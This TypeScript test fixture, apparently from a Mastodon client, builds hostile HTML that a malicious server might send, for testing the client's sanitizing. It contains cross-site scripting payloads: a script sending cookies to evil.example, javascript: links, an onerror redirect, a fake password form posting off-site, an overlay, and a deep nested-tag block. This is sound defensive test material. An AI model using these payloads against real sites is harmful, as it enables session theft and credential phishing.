/**
 * The HTML a malicious remote server might send. It is stored and served verbatim:
 * Mastodon sanitizes remote HTML, but the client must not rely on any server doing so.
 */
export function hostileHtml(): string {
  const attacks = [
    '<p>Totally normal post, nothing to see here',
    '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>',
    '<img src="x" onerror="window.location=\'https://evil.example/\'+localStorage.length">',
    '<a href="javascript:alert(document.domain)">click for a prize</a>',
    '<a href="https://evil.example/phish" onclick="steal()" style="color:red">support portal</a>',
    '<span style="position:fixed;inset:0;z-index:99999;background:#c00;color:#fff;font-size:120px">OVERLAY</span>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    '<form action="https://evil.example/login"><input name="password" type="password"><button>Sign in again</button></form>',
    '<object data="javascript:alert(2)"></object><style>body{display:none}</style></p>',
  ].join(' ');
  // A 50 KB run of nested tags to stress parsers and recursive renderers.
  const tags = ['div', 'span', 'b', 'i'] as const;
  let open = '';
  let close = '';
  for (let depth = 0; open.length + close.length < 50 * 1024; depth++) {
    const tag = tags[depth % tags.length] as string;
    open += `<${tag}>`;
    close = `</${tag}>` + close;
  }
  return `${attacks}${open}deep${close}`;
}
